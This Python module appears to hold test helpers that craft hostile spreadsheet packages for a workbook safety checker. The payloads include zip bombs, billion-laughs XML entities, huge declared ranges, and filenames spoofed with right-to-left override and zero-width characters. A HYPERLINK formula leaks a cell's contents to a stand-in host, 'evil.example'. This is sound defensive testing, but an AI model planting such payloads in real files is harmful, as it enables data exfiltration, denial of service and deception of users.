"""Hostile files, each made from a valid one by editing its raw package: the same families for
every entry point (huge declared dimensions, far-away cells, zip bombs, XML entities, formulas,
oversized bodies, NUL / right-to-left override / zero-width characters)."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from pathlib import Path

from econsec.workbook_guard import Limits, inspect

XFD = "XFD1048576"
NUL = "Bad\x00Name"
RLO = "invoice\u202efdp.exe"  # shows as "invoiceexe.pdf"
ZWSP = "Hua\u200bwei"  # looks like "Huawei", compares different
CHARACTERS = {"NUL": NUL, "right-to-left override": RLO, "zero-width space": ZWSP}
FORMULA = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
_ANY = Limits(max_bytes=1 << 40, max_uncompressed=1 << 40, max_rows=1 << 40,
              max_columns=1 << 40, max_cells=1 << 60)  # fmt: skip


def sheet_part(path: Path, sheet: int = 0) -> str:
    return inspect(path, _ANY).sheets[sheet].part


def edit_part(src: Path, dst: Path, part: str, edit: Callable[[bytes], bytes]) -> Path:
    """A copy of the package ``src`` with ``part`` rewritten by ``edit``."""
    with zipfile.ZipFile(src) as old, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info.filename)
            new.writestr(info, edit(data) if info.filename == part else data)
    return dst


def edit_sheet(src: Path, dst: Path, edit: Callable[[bytes], bytes], sheet: int = 0) -> Path:
    return edit_part(src, dst, sheet_part(src, sheet), edit)


def declared_dimension(src: Path, dst: Path, ref: str = "A1:XFD1048576", sheet: int = 0) -> Path:
    """The sheet claims a used range of ``ref``; its cells are unchanged."""

    def edit(xml: bytes) -> bytes:
        tag = f'<dimension ref="{ref}"/>'.encode()
        if re.search(rb"<dimension [^>]*>", xml):
            return re.sub(rb"<dimension [^>]*>", tag, xml, count=1)
        return re.sub(rb"(<sheetData)", tag + rb"\1", xml, count=1)

    return edit_sheet(src, dst, edit, sheet)


def far_cell(src: Path, dst: Path, ref: str = XFD, sheet: int = 0) -> Path:
    """One more value, alone in cell ``ref``."""
    row = re.sub(r"^[A-Z]+", "", ref)
    cell = f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>x</t></is></c></row>'.encode()
    return edit_sheet(
        src, dst, lambda xml: xml.replace(b"</sheetData>", cell + b"</sheetData>"), sheet
    )


def set_cell(
    src: Path, dst: Path, ref: str, *, text: str | None = None, formula: str | None = None,
    sheet: int = 0,
) -> Path:  # fmt: skip
    """Cell ``ref`` (which must exist) replaced by raw XML: inline text as given (control
    characters unescaped, as a hostile writer would put them) or a formula."""
    if formula is not None:
        escaped = formula.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
        body = f'<c r="{ref}"><f>{escaped}</f><v>0</v></c>'
    else:
        escaped = (text or "").replace("&", "&amp;").replace("<", "&lt;")
        body = f'<c r="{ref}" t="inlineStr"><is><t>{escaped}</t></is></c>'

    def edit(xml: bytes) -> bytes:
        pattern = rb'<c r="' + ref.encode() + rb'"(?:[^>]*/>|[^>]*>.*?</c>)'
        new, count = re.subn(pattern, body.encode(), xml, count=1, flags=re.S)
        assert count == 1, f"no cell {ref} to replace"
        return new

    return edit_sheet(src, dst, edit, sheet)


def zip_bomb(src: Path, dst: Path, megabytes: int = 64) -> Path:
    """The package plus one part of zeros that inflates about a thousand times."""
    edit_part(src, dst, "", lambda data: data)
    with zipfile.ZipFile(dst, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", b"\0" * (megabytes * 1024 * 1024))
    return dst


BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    + "]>\n"
)


def xml_entities(src: Path, dst: Path, part: str | None = None) -> Path:
    """``part`` (default: the first sheet) declares the billion-laughs entities and uses them."""
    target = part or sheet_part(src)

    def edit(xml: bytes) -> bytes:
        xml = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)
        xml = xml.replace(b"</sheetData>", b"</sheetData>", 1)
        return BILLION_LAUGHS.encode() + re.sub(rb"<t>([^<]*)</t>", rb"<t>&lol9;</t>", xml, count=1)

    return edit_part(src, dst, target, edit)


def oversized(dst: Path, size: int) -> Path:
    """A file of ``size`` bytes that takes no disk space (sparse): only its size is hostile."""
    with dst.open("wb") as handle:
        handle.truncate(size)
    return dst
